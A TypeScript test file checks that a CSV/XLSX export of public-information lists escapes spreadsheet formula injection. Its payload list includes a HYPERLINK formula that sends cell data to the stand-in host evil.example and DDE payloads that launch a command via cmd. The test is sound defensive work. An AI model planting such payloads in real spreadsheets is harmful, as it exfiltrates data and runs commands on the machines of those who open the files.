import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvField, escapeFormula, exportRequestSchema } from '../../shared/domain/export';
import { readZip } from '../../main/core/publish/zip';
import { parseCsv } from '../../main/core/import/csv';
import { addEntry, openSession, setAgency } from '../export/fixture';

/** RELIABILITY #10: every prefix a spreadsheet would run as a formula. */
const payloads = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('export formula injection (RELIABILITY #10)', () => {
  it('escapes each dangerous first character with an apostrophe, and leaves other text alone', () => {
    for (const payload of payloads) expect(escapeFormula(payload)).toBe(`'${payload}`);
    for (const safe of ['Laporan 2025', "'sudah dikutip", ' =spasi di depan', 'a=b']) expect(escapeFormula(safe)).toBe(safe);
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('kata "kutip"')).toBe('"kata ""kutip"""');
  });

  it('CSV cells are escaped; XLSX has no formula and reads back as the original text', async () => {
    const s = openSession();
    await setAgency(s);
    for (const payload of payloads) {
      await addEntry(s, 'berkala', { judul: payload, ringkasan: payload, jenisMedia: payload });
      await addEntry(s, 'dikecualikan', { judul: 'Rahasia', dikInformasi: payload, dikDasarHukum: payload, dikJangkaWaktu: payload });
    }
    for (const list of ['dip', 'dik'] as const) {
      const csv = (await s.core.exports.render(exportRequestSchema.parse({ list, format: 'csv' }))).data
        .toString('utf8')
        .replace(/^\uFEFF/, '');
      const rows = parseCsv(csv, 1000, 100) ?? [];
      const cells = rows.slice(1).flat();
      for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
      // Entry text is trimmed when saved, so a leading tab or CR arrives as the formula after it.
      for (const payload of payloads) expect(cells).toContain(`'${payload.trim()}`);

      const xlsx = (await s.core.exports.render(exportRequestSchema.parse({ list, format: 'xlsx' }))).data;
      for (const entry of readZip(xlsx).filter((e) => e.name.startsWith('xl/worksheets/'))) {
        expect(entry.data.toString('utf8')).not.toMatch(/<f[ >]/);
      }
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(new Uint8Array(xlsx).buffer);
      const texts: string[] = [];
      workbook.worksheets[0]?.eachRow((row) =>
        row.eachCell((cell) => texts.push(typeof cell.value === 'string' ? cell.value : JSON.stringify(cell.value))),
      );
      for (const payload of payloads) expect(texts).toContain(payload.trim());
    }
  });
});
